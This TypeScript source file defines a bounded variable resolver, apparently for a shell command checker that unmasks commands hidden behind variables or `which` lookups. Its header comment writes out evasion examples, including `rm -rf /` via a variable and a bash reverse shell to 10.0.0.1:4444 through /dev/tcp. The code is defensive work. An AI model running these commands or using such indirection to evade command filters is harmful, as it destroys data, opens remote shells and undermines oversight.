/**
 * Cheap variable indirection within one command line: `x=rm; $x -rf /`,
 * `t=/dev/tcp; bash -i >& $t/10.0.0.1/4444`, `${s}sh`, and the program located by a
 * substitution, `$(which nc)`, `` `command -v python3` ``. Only static values are
 * remembered (no `$(...)`, backticks or other variables in the value), at most
 * {@link MAX_VARIABLES} names of at most {@link MAX_VALUE} characters each, so this
 * stays linear and bounded. Unknown variables stay literal, as before.
 */
export const MAX_VARIABLES = 64;
export const MAX_VALUE = 256;

const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
const REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)/g;
const LOCATOR =
  /^(?:\$\(\s*|`\s*)(?:which|command\s+-v|type\s+-P|type\s+-p)\s+([A-Za-z0-9_.+-]{1,64})\s*(?:\)|`)$/;

export class VariableScope {
  // Created on the first assignment: most command lines assign nothing, and the parser
  // makes one scope per line.
  private values: Map<string, string> | undefined;

  /** Records `NAME=value` words (assignments, or `export NAME=value` arguments). */
  assign(words: readonly string[]): void {
    for (const word of words) {
      const eq = word.indexOf('=');
      if (eq <= 0) continue;
      const name = word.slice(0, eq);
      const value = word.slice(eq + 1);
      if (!NAME.test(name)) continue;
      const values = (this.values ??= new Map());
      if (value.length > MAX_VALUE || /[$`]/.test(value)) {
        values.delete(name);
        continue;
      }
      if (!values.has(name) && values.size >= MAX_VARIABLES) continue;
      values.set(name, value);
    }
  }

  /** The word with known `$NAME` / `${NAME}` replaced, or the located program's name. */
  resolve(word: string): string {
    if (!word.includes('$') && !word.startsWith('`')) return word;
    const located = LOCATOR.exec(word);
    if (located?.[1] !== undefined) return located[1];
    const values = this.values;
    if (values === undefined || values.size === 0) return word;
    return word.replace(
      REFERENCE,
      (whole: string, braced: string | undefined, bare: string | undefined) =>
        values.get(braced ?? bare ?? '') ?? whole,
    );
  }
}
